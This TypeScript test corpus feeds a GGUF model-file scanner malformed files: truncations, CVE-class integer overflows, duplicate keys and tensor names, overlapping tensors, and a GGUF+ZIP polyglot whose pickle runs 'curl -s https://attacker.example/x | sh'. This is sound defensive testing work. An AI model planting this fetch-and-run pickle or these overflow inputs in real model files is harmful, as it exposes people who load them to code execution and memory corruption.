/**
 * GGUF corpus (ggml/docs/gguf.md; the checks of llama.cpp's hardened ggml/src/gguf.cpp): a file cut
 * at every structural boundary, the integer overflows of llama.cpp's GGUF CVEs, duplicate keys and
 * names, overlapping tensors, and a ZIP polyglot. Built with tests/fixtures/gguf-builder.ts.
 */
import { buildGguf, kv, type BuildOptions, type BuiltGguf, type GgufValueInput } from '../../fixtures/gguf-builder.ts';
import { concat, patched, u64, utf8 } from '../builders/bytes.ts';
import { stateDictPickle, systemCall } from '../builders/pickle.ts';
import { torchZip } from '../builders/torch.ts';
import type { CorpusEntry } from '../types.ts';

const NAME = 'model.gguf';

/** A valid little-endian v3 file: three key-values (a string, a string array, the alignment) and two F32 tensors. */
const VALID: BuildOptions = {
  alignment: 32,
  kvs: [
    { key: 'general.architecture', value: kv.str('llama') },
    { key: 'tokenizer.ggml.tokens', value: kv.arr('str', ['a', 'b', 'c']) },
  ],
  tensors: [
    { name: 'token_embd.weight', ne: [4, 2], type: 'F32' },
    { name: 'output.weight', ne: [4], type: 'F32' },
  ],
};
const valid = (): BuiltGguf => buildGguf(VALID);
const L = valid().layout;
const KV0 = L.kvOffsets[0] ?? 0;
const KV1 = L.kvOffsets[1] ?? 0;
const T0 = L.tensorInfoOffsets[0] ?? 0;
const T1 = L.tensorInfoOffsets[1] ?? 0;

/** One tensor named `name`, F32, of `ne`, with everything else overridable. */
function oneTensor(t: Partial<NonNullable<BuildOptions['tensors']>[number]>, extra: BuildOptions = {}): BuiltGguf {
  return buildGguf({ ...extra, tensors: [{ name: 'blk.0.attn_q.weight', ne: [4], type: 'F32', ...t }] });
}

/** A GGUF whose only key-value has the given value. */
const oneKv = (key: string, value: GgufValueInput): BuiltGguf => buildGguf({ kvs: [{ key, value }] });

interface Cut {
  slug: string;
  at: number;
  /** Offset the truncated error points at: the start of the structure (or the count) the cut defeats. */
  offset: number;
  what: string;
  base: 'valid' | 'vocab';
}

/**
 * A vocabulary-only file (no tensors, as llama.cpp's ggml-vocab-*.gguf): the tensor and key-value
 * counts are checked against the bytes left before anything is read, so a cut early in a file with
 * tensors is caught at the count (byte 8); this file lets a cut reach each key-value structure.
 */
const VOCAB_KEY = 'general.source.huggingface.repository'; // long enough that a cut inside it leaves room for the counts
const VOCAB_TOKENS = Array.from({ length: 4 }, (_, i) => `${'▁token'.repeat(6)}${i}`);
const VOCAB: BuildOptions = {
  kvs: [
    { key: VOCAB_KEY, value: kv.str('https://huggingface.co/org/model') },
    { key: 'tokenizer.ggml.tokens', value: kv.arr('str', VOCAB_TOKENS) },
  ],
};
const V = buildGguf(VOCAB).layout;
const VKV0 = V.kvOffsets[0] ?? 0;
const VKV1 = V.kvOffsets[1] ?? 0;
const KEY0 = utf8(VOCAB_KEY).byteLength;
/** Absolute offset of token string `i`'s length field in VOCAB. */
const tokenAt = (i: number): number => VKV1 + 8 + 21 + 4 + 4 + 8 + VOCAB_TOKENS.slice(0, i).reduce((n, t) => n + 8 + utf8(t).byteLength, 0);

// Every structural boundary, with the structure the cut lands in and the check that fires.
const CUTS: Cut[] = [
    { slug: 'inside-version', at: 6, offset: 0, what: 'the 4-byte version', base: 'valid' },
  { slug: 'inside-tensor-count', at: 12, offset: 8, what: 'the u64 tensor count', base: 'valid' },
  { slug: 'inside-kv-count', at: 20, offset: 16, what: 'the u64 key-value count', base: 'valid' },
  { slug: 'before-first-kv', at: KV0, offset: 8, what: 'nothing yet: the two declared tensor infos cannot fit in the 0 bytes left', base: 'valid' },
  { slug: 'inside-key-length', at: VKV0 + 4, offset: 16, what: 'the first key\'s u64 length: the declared key-values cannot fit', base: 'vocab' },
  { slug: 'inside-key-bytes', at: VKV0 + 8 + 30, offset: VKV0, what: 'the first key\'s bytes', base: 'vocab' },
  { slug: 'inside-value-type', at: VKV0 + 8 + KEY0 + 2, offset: VKV0 + 8 + KEY0, what: 'the first value\'s type', base: 'vocab' },
  { slug: 'inside-string-value', at: VKV0 + 8 + KEY0 + 4 + 8 + 2, offset: VKV0 + 8 + KEY0 + 4, what: 'the first value\'s string bytes', base: 'vocab' },
  { slug: 'inside-array-type', at: VKV1 + 8 + 21 + 4 + 2, offset: VKV1 + 33, what: 'the token array\'s element type', base: 'vocab' },
  { slug: 'inside-array-count', at: VKV1 + 8 + 21 + 4 + 4 + 3, offset: VKV1 + 37, what: 'the token array\'s u64 length', base: 'vocab' },
  { slug: 'inside-array-strings', at: tokenAt(2) + 8 + 20, offset: tokenAt(2), what: 'the third token string', base: 'vocab' },
  { slug: 'inside-array-string-length', at: tokenAt(3) + 3, offset: tokenAt(3), what: 'the last token string\'s u64 length', base: 'vocab' },
  { slug: 'before-tensor-infos', at: T0, offset: T0, what: 'the first tensor info', base: 'valid' },
  { slug: 'inside-tensor-name', at: T0 + 8 + 6, offset: T0, what: 'the first tensor\'s name', base: 'valid' },
  { slug: 'inside-tensor-dims', at: T0 + 8 + 17 + 4 + 8 + 3, offset: T0 + 8 + 17 + 4 + 8, what: 'the first tensor\'s second dimension', base: 'valid' },
  { slug: 'inside-tensor-type', at: T0 + 8 + 17 + 4 + 16 + 1, offset: T0 + 8 + 17 + 4 + 16, what: 'the first tensor\'s ggml type', base: 'valid' },
  { slug: 'inside-tensor-offset', at: T1 - 3, offset: T1 - 8, what: 'the first tensor\'s data offset', base: 'valid' },
  { slug: 'at-header-end', at: L.headerEnd, offset: T0, what: 'the alignment padding: no tensor data at all (the error points at the tensor info whose data is missing)', base: 'valid' },
  { slug: 'at-data-start', at: L.dataStart, offset: T0, what: 'the data section, before any tensor byte', base: 'valid' },
  { slug: 'inside-first-tensor', at: L.dataStart + 10, offset: L.dataStart, what: 'the first tensor\'s data', base: 'valid' },
  { slug: 'inside-last-tensor', at: (L.tensorDataOffsets[1] ?? 0) + 15, offset: L.tensorDataOffsets[1] ?? 0, what: 'the last tensor\'s last byte', base: 'valid' },
];

const truncations: CorpusEntry[] = CUTS.map((c) => ({
  id: `gguf/truncated-${c.slug}`,
  format: 'gguf',
  name: NAME,
  build: () => (c.base === 'valid' ? valid() : buildGguf(VOCAB)).bytes.subarray(0, c.at),
  expect: { code: 'truncated', offset: c.offset },
  source: `spec rule: ggml/docs/gguf.md file structure — the file ends inside ${c.what}`,
}));

/** A TorchScript-free torch.save zip whose data.pkl runs `posix.system` — what torch.load would execute. */
function evilTorchZip(command: string): Uint8Array {
  const pkl = stateDictPickle([['x', (p) => p.raw(systemCall(command).bytesOut())]]).stop().bytesOut();
  return torchZip({ dataPkl: pkl }).bytes;
}

export const GGUF_ENTRIES: readonly CorpusEntry[] = [
  ...truncations,
  {
    id: 'gguf/truncated-inside-magic',
    format: 'gguf',
    name: NAME,
    build: () => valid().bytes.subarray(0, 2),
    expect: { code: 'unknown_format', offset: 0 },
    source: 'spec rule: ggml/docs/gguf.md — 2 bytes cannot be identified as GGUF ("GGUF" is 4 bytes)',
  },
  {
    id: 'gguf/lfs-pointer',
    format: 'gguf',
    name: NAME,
    build: () => utf8('version https://git-lfs.github.com/spec/v1\noid sha256:9c1ff2cfde1ae1e81e5d1a5ba5b1f0ffeeb2c5f37b8a4b9bd86fbf7d0a6cbb6f\nsize 4368439584\n'),
    expect: { code: 'git_lfs_pointer', offset: 0 },
    source: 'spec rule: Git LFS pointer file (git-lfs docs/spec.md) cloned without `git lfs pull`',
  },
  {
    id: 'gguf/bad-magic-ggml',
    format: 'gguf',
    name: NAME,
    build: () => patched(valid().bytes, 0, utf8('GGML')),
    expect: { code: 'unknown_format', offset: 0 },
    source: 'spec rule: ggml/docs/gguf.md — a GGUF file starts with "GGUF"; "GGML"/"GGJT" are the pre-GGUF formats',
  },
  {
    id: 'gguf/version-4',
    format: 'gguf',
    name: NAME,
    build: () => buildGguf({ ...VALID, version: 4 }).bytes,
    expect: { code: 'gguf_bad_version', offset: 4 },
    source: 'spec rule: ggml/docs/gguf.md — versions 1, 2 and 3 are defined',
  },
  {
    id: 'gguf/big-endian',
    format: 'gguf',
    name: NAME,
    build: () => buildGguf({ ...VALID, bigEndian: true }).bytes,
    expect: { code: 'gguf_big_endian', offset: 4 },
    source: 'spec rule: ggml/docs/gguf.md v3 — big-endian files carry no marker; their tensor bytes are byte-swapped',
  },
  // ── counts (CVE-2024-21836/CVE-2024-23605 class: n_tensors / n_kv sizing allocations) ──
  {
    id: 'gguf/tensor-count-u64-max',
    format: 'gguf',
    name: NAME,
    build: () => buildGguf({ ...VALID, tensorCountOverride: (1n << 64n) - 1n }).bytes,
    expect: { code: 'gguf_count_too_large', offset: 8 },
    source: 'CVE-2024-21836 class: a tensor count of 2^64-1 sizing the tensor-info allocation (n_tensors × sizeof overflows)',
  },
  {
    id: 'gguf/kv-count-2p62',
    format: 'gguf',
    name: NAME,
    build: () => buildGguf({ ...VALID, kvCountOverride: 1n << 62n }).bytes,
    expect: { code: 'gguf_count_too_large', offset: 16 },
    source: 'CVE-2024-23605 class: a key-value count whose allocation (n_kv × sizeof(gguf_kv)) wraps 64 bits',
  },
  {
    id: 'gguf/tensor-count-past-eof',
    format: 'gguf',
    name: NAME,
    build: () => buildGguf({ ...VALID, tensorCountOverride: 1000n }).bytes,
    expect: { code: 'truncated', offset: 8 },
    source: 'spec rule: a count under its cap still has to fit in the bytes that remain (checked before any allocation)',
  },
  // ── strings and arrays (CVE-2024-23496/CVE-2024-21825 class: lengths near 2^64) ──
  {
    id: 'gguf/key-length-near-2p64',
    format: 'gguf',
    name: NAME,
    build: () => patched(valid().bytes, KV0, u64((1n << 64n) - 8n)),
    expect: { code: 'gguf_bad_key', offset: KV0 },
    source: 'CVE-2024-23496 class: a string length of 2^64-8 — length + 1 for the terminator wraps to a tiny allocation',
  },
  {
    id: 'gguf/string-value-length-near-2p64',
    format: 'gguf',
    name: NAME,
    build: () => patched(valid().bytes, KV0 + 32, u64((1n << 64n) - 1n)),
    expect: { code: 'gguf_string_too_long', offset: KV0 + 32 },
    source: 'CVE-2024-23496 class: a string value length of 2^64-1 (SIZE_MAX) read unchecked into a std::string',
  },
  {
    id: 'gguf/array-count-times-8-wraps',
    format: 'gguf',
    name: NAME,
    build: () => oneKv('general.ids', { type: 'arr', elementType: 'u64', items: [], lengthOverride: 1n << 61n }).bytes,
    expect: { code: 'gguf_count_too_large', offset: 24 + 8 + 11 + 4 + 4 },
    source: 'CVE-2024-21825 class: an array of 2^61 u64 elements — count × 8 wraps to 0 bytes in a 64-bit multiply',
  },
  {
    id: 'gguf/string-array-count-2p62',
    format: 'gguf',
    name: NAME,
    build: () => patched(valid().bytes, KV1 + 8 + 21 + 4 + 4, u64(1n << 62n)),
    expect: { code: 'gguf_count_too_large', offset: KV1 + 37 },
    source: 'CVE-2024-21825 class: a string array of 2^62 entries sizing a vector of std::string',
  },
  {
    id: 'gguf/string-in-array-length-near-2p64',
    format: 'gguf',
    name: NAME,
    build: () => patched(valid().bytes, KV1 + 45 + 9, u64((1n << 64n) - 1n)),
    expect: { code: 'gguf_string_too_long', offset: KV1 + 54 },
    source: 'CVE-2024-23496 class: the second token string declares 2^64-1 bytes',
  },
  {
    id: 'gguf/nested-arrays-too-deep',
    format: 'gguf',
    name: NAME,
    build: () => {
      let v: GgufValueInput = { type: 'arr', elementType: 'u8', items: [kv.u8(1)] };
      for (let i = 0; i < 4; i++) v = { type: 'arr', elementType: 'arr', items: [v] };
      return oneKv('general.nested', v).bytes;
    },
    expect: { code: 'gguf_array_too_deep', offset: 24 + 8 + 14 + 4 + 4 + 8 + 4 + 8 + 4 + 8 },
    source: 'spec rule: limits.ts MAX_GGUF_ARRAY_DEPTH = 3 — arrays of arrays nest recursion and allocations (llama.cpp refuses nesting)',
  },
  {
    id: 'gguf/undefined-value-type',
    format: 'gguf',
    name: NAME,
    build: () => oneKv('general.x', { type: 'raw', typeId: 13, bytes: new Uint8Array(8) }).bytes,
    expect: { code: 'gguf_bad_value_type', offset: 24 + 8 + 9 },
    source: 'spec rule: ggml/docs/gguf.md gguf_metadata_value_type — ids 0…12',
  },
  {
    id: 'gguf/bool-value-2',
    format: 'gguf',
    name: NAME,
    build: () => oneKv('tokenizer.ggml.add_bos_token', kv.bool(2)).bytes,
    expect: { code: 'gguf_bad_value', offset: 24 + 8 + 28 + 4 },
    source: 'spec rule: ggml/docs/gguf.md — a bool is 1 byte, 0 or 1 (readers disagree on 2: true to C, invalid to gguf-py)',
  },
  {
    id: 'gguf/duplicate-key',
    format: 'gguf',
    name: NAME,
    build: () => buildGguf({ kvs: [{ key: 'general.architecture', value: kv.str('llama') }, { key: 'general.architecture', value: kv.str('gpt2') }] }).bytes,
    expect: { code: 'gguf_duplicate_key', offset: 24 + 8 + 20 + 4 + 8 + 5 },
    source: 'scanner bypass: a repeated key — llama.cpp refuses the file, gguf-py keeps the first value, huggingface.js the last',
  },
  {
    id: 'gguf/empty-key',
    format: 'gguf',
    name: NAME,
    build: () => oneKv('', kv.u32(1)).bytes,
    expect: { code: 'gguf_bad_key', offset: 24 },
    source: 'spec rule: gguf.cpp gguf_init_from_reader — keys are non-empty',
  },
  {
    id: 'gguf/key-not-utf8',
    format: 'gguf',
    name: NAME,
    build: () => buildGguf({ kvs: [{ key: Uint8Array.of(0x67, 0xc3, 0x28), value: kv.u32(1) }] }).bytes,
    expect: { code: 'gguf_bad_key', offset: 24 },
    source: 'spec rule: ggml/docs/gguf.md — keys are ASCII (lower_snake_case separated by dots)',
  },
  {
    id: 'gguf/alignment-not-power-of-two',
    format: 'gguf',
    name: NAME,
    build: () => buildGguf({ ...VALID, kvs: [{ key: 'general.alignment', value: kv.u32(48) }] }).bytes,
    expect: { code: 'gguf_bad_alignment', offset: 24 },
    source: 'spec rule: ggml/docs/gguf.md general.alignment — a power of two (GGML_PAD assumes it)',
  },
  {
    id: 'gguf/alignment-zero',
    format: 'gguf',
    name: NAME,
    build: () => buildGguf({ ...VALID, kvs: [{ key: 'general.alignment', value: kv.u32(0) }] }).bytes,
    expect: { code: 'gguf_bad_alignment', offset: 24 },
    source: 'spec rule: ggml/docs/gguf.md general.alignment — a power of two (0 divides by zero in offset % alignment)',
  },
  {
    id: 'gguf/alignment-u64',
    format: 'gguf',
    name: NAME,
    build: () => buildGguf({ ...VALID, kvs: [{ key: 'general.alignment', value: kv.u64(32n) }] }).bytes,
    expect: { code: 'gguf_bad_alignment', offset: 24 },
    source: 'spec rule: ggml/docs/gguf.md general.alignment is a uint32',
  },
  // ── tensor infos (CVE-2024-21802 class: info->ne written past GGML_MAX_DIMS) ──
  {
    id: 'gguf/n-dims-u32-max',
    format: 'gguf',
    name: NAME,
    build: () => oneTensor({ nDims: 0xffffffff }).bytes,
    expect: { code: 'gguf_bad_dims', offset: 24 + 8 + 19 },
    source: 'CVE-2024-21802 class: n_dims read unchecked and used to fill the 4-entry ne[] array (heap overflow)',
  },
  {
    id: 'gguf/n-dims-5',
    format: 'gguf',
    name: NAME,
    build: () => oneTensor({ ne: [1, 1, 1, 1, 4] }).bytes,
    expect: { code: 'gguf_bad_dims', offset: 24 + 8 + 19 },
    source: 'spec rule: ggml/docs/gguf.md — at most 4 dimensions (GGML_MAX_DIMS)',
  },
  {
    id: 'gguf/dim-negative-as-int64',
    format: 'gguf',
    name: NAME,
    build: () => oneTensor({ ne: [1n << 63n] }).bytes,
    expect: { code: 'gguf_bad_dims', offset: 24 + 8 + 19 + 4 },
    source: 'CVE-2026-33298 class: a dimension ≥ 2^63 reads as negative int64 in ggml and defeats its size checks',
  },
  {
    id: 'gguf/ne-product-overflows-int64',
    format: 'gguf',
    name: NAME,
    build: () => oneTensor({ ne: [1n << 32n, 1n << 32n] }).bytes,
    expect: { code: 'gguf_size_overflow', offset: 24 + 8 + 19 },
    source: 'CVE-2025-53630 class: ne[0] × ne[1] = 2^64 wraps to 0 elements in unchecked 64-bit arithmetic',
  },
  {
    id: 'gguf/ne-times-type-size-overflows',
    format: 'gguf',
    name: NAME,
    build: () => oneTensor({ ne: [1n << 42n, 1n << 20n] }).bytes,
    expect: { code: 'gguf_size_overflow', offset: 24 + 8 + 19 + 4 + 16 },
    source: 'CVE-2026-27940 class: 2^62 F32 elements are 2^64 bytes — nelements × type_size wraps (bypass of the element-count check)',
  },
  {
    id: 'gguf/offset-plus-size-wraps',
    format: 'gguf',
    name: NAME,
    build: () => oneTensor({ offset: (1n << 64n) - 32n }).bytes,
    expect: { code: 'gguf_size_overflow', offset: 24 + 8 + 19 + 4 + 8 + 4 },
    source: 'CVE-2025-53630 class: data offset 2^64-32 + 16 bytes wraps past 2^64 (ctx->size / offset accumulation overflow)',
  },
  {
    id: 'gguf/offset-past-eof',
    format: 'gguf',
    name: NAME,
    build: () => oneTensor({ offset: 1n << 20n }).bytes,
    expect: { code: 'truncated', offset: 24 },
    source: 'spec rule: ggml/docs/gguf.md — tensor data lies inside the data section',
  },
  {
    id: 'gguf/undefined-type-id',
    format: 'gguf',
    name: NAME,
    build: () => oneTensor({ type: 99 }).bytes,
    expect: { code: 'gguf_unknown_type', offset: 24 + 8 + 19 + 4 + 8 },
    source: 'spec rule: ggml.h enum ggml_type — a type id ≥ GGML_TYPE_COUNT indexes past the type traits table',
  },
  {
    id: 'gguf/removed-type-q4-2',
    format: 'gguf',
    name: NAME,
    build: () => oneTensor({ type: 4, ne: [32] }).bytes,
    expect: { code: 'gguf_unknown_type', offset: 24 + 8 + 19 + 4 + 8 },
    source: 'spec rule: ggml.h — Q4_2 (id 4) was removed; its block size is 0 in ggml (division by zero)',
  },
  {
    id: 'gguf/partial-block',
    format: 'gguf',
    name: NAME,
    build: () => oneTensor({ type: 'Q4_0', ne: [31, 2] }).bytes,
    expect: { code: 'gguf_bad_block', offset: 24 + 8 + 19 + 4 + 16 },
    source: 'spec rule: gguf.cpp — ne[0] is a multiple of the block size (31 Q4_0 elements are not a whole block)',
  },
  {
    id: 'gguf/misaligned-offset',
    format: 'gguf',
    name: NAME,
    build: () => oneTensor({ offset: 4 }).bytes,
    expect: { code: 'gguf_misaligned_offset', offset: 24 + 8 + 19 + 4 + 8 + 4 },
    source: 'spec rule: ggml/docs/gguf.md — tensor offsets are multiples of general.alignment',
  },
  {
    id: 'gguf/duplicate-tensor-name',
    format: 'gguf',
    name: NAME,
    build: () => buildGguf({ tensors: [{ name: 'output.weight', ne: [4], type: 'F32' }, { name: 'output.weight', ne: [8], type: 'F32' }] }).bytes,
    expect: { code: 'gguf_duplicate_tensor', offset: 24 + 8 + 13 + 4 + 8 + 4 + 8 },
    source: 'scanner bypass: two tensors with one name — which one a loader maps depends on the loader',
  },
  {
    id: 'gguf/overlapping-tensors',
    format: 'gguf',
    name: NAME,
    build: () => buildGguf({ tensors: [{ name: 'a.weight', ne: [16], type: 'F32' }, { name: 'b.weight', ne: [16], type: 'F32', offset: 32 }] }).bytes,
    expect: { code: 'gguf_overlap' },
    source: 'scanner bypass: two tensors sharing bytes — editing one silently edits the other',
  },
  {
    id: 'gguf/tensor-name-65-bytes',
    format: 'gguf',
    name: NAME,
    build: () => oneTensor({ name: 'x'.repeat(65) }).bytes,
    expect: { code: 'gguf_bad_tensor_name', offset: 24 },
    source: 'spec rule: ggml/docs/gguf.md — tensor names are at most 64 bytes (GGML_MAX_NAME)',
  },
  {
    id: 'gguf/tensor-name-empty',
    format: 'gguf',
    name: NAME,
    build: () => oneTensor({ name: '' }).bytes,
    expect: { code: 'gguf_bad_tensor_name', offset: 24 },
    source: 'spec rule: gguf.cpp — tensor names are non-empty',
  },
  {
    id: 'gguf/unsupported-newer-type',
    format: 'gguf',
    name: NAME,
    build: () => oneTensor({ type: 40, ne: [64], data: new Uint8Array(36) }).bytes,
    expect: { code: 'gguf_unsupported_type', offset: 24 },
    source: 'spec rule: ggml.h — NVFP4 (id 40) is defined by current ggml but not compared by this version',
  },
  // ── polyglots: the GGUF reader sees a model, torch.load (zipfile.is_zipfile) sees an archive ──
  {
    id: 'gguf/polyglot-torch-zip-appended',
    format: 'gguf',
    name: NAME,
    build: () => concat(buildGguf({ tensors: [{ name: 'polyglot.weight', ne: [4], type: 'F32' }] }).bytes, evilTorchZip('curl -s https://attacker.example/x | sh')),
    expect: { notice: { kind: 'unsafe-pickle-global', key: 'posix.system', severity: 'critical' }, verdict: 'malicious-code' },
    source: 'scanner bypass: a GGUF+ZIP polyglot — llama.cpp reads the GGUF, torch.load finds the ZIP end record at the tail and unpickles its data.pkl',
  },
];

